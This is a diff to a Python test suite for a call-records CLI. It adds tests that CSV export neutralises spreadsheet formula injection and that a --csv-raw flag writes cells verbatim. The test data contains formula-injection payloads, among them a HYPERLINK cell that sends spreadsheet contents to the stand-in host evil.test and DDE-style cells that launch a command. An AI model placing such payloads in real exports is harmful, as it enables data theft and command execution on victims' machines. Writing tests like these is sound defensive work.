@@ -655,7 +655,7 @@ async def test_unencodable_output_exits_2_with_advice(
     assert "--output" in one_error_line(capsys.readouterr().err)
 
 
-# --- hostile text: terminal escapes -----------------------------------------------------------
+# --- hostile text: terminal escapes and spreadsheet formulas ---------------------------------
 
 #: Escape sequences a hostile backend may put in any text: an OSC 52 clipboard write, a
 #: title change, a screen clear, an 8-bit CSI, a bidi override and isolate, DEL, BS and CR.
@@ -915,6 +915,44 @@ async def test_demo_shows_server_text_visibly(
     assert re.search(rf"^  \[ *[\d.]+s\] {re.escape(VISIBLE)}", out, re.MULTILINE)
 
 
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.test/?"&A1,"x")', '\'=HYPERLINK("http://evil.test/?"&A1,"x")'),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        ("+84901234567", "+84901234567"),
+        ("+84 (90) 123-4567", "+84 (90) 123-4567"),
+        ("-12.5", "-12.5"),
+        ("Nguyễn = Bùi", "Nguyễn = Bùi"),
+    ],
+)
+async def test_csv_defuses_formula_cells_and_keeps_numbers(
+    cell: str, written: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A cell a spreadsheet would run gets a leading ``'``; phone numbers and numbers do not."""
+    async with serving(HostileData(fields={"customerName": cell, "agentName": cell})) as fake:
+        assert await run(connect(fake, "calls", "list", *RANGE, "--format", "csv")) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert len(rows) == CALLS
+    assert {(row["customer_name"], row["agent"]) for row in rows} == {(written, written)}
+
+
+async def test_csv_raw_writes_cells_exactly(capsys: pytest.CaptureFixture[str]) -> None:
+    """``--csv-raw`` writes every cell as received, formulas and escapes included."""
+    fields = {"customerName": "=1+1", "agentName": HOSTILE, "caller": "-2+3+cmd|' /C calc'!A0"}
+    async with serving(HostileData(fields=fields)) as fake:
+        args = ["--format", "csv", "--csv-raw"]
+        assert await run(connect(fake, "calls", "list", *RANGE, *args)) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert len(rows) == CALLS
+    assert {(r["customer_name"], r["agent"], r["caller"]) for r in rows} == {tuple(fields.values())}
+
+
 async def test_csv_on_a_terminal_shows_escapes_visibly(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -928,6 +966,16 @@ async def test_csv_on_a_terminal_shows_escapes_visibly(
     rows = list(csv.DictReader(io.StringIO(out)))
     assert len(rows) == CALLS
     assert {row["agent"] for row in rows} == {VISIBLE}
+
+
+async def test_csv_raw_without_csv_format_exits_2_before_any_request(
+    fake: FakeAlohub, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``--csv-raw`` with another format is a usage error, found before any request."""
+    args = connect(fake, "calls", "list", *RANGE, "--format", "jsonl", "--csv-raw")
+    assert await run(args) == ExitCode.USAGE
+    assert "--csv-raw" in one_error_line(capsys.readouterr().err)
+    assert fake.counters.requests == 0
 
 
 # --- main() -------------------------------------------------------------------------------
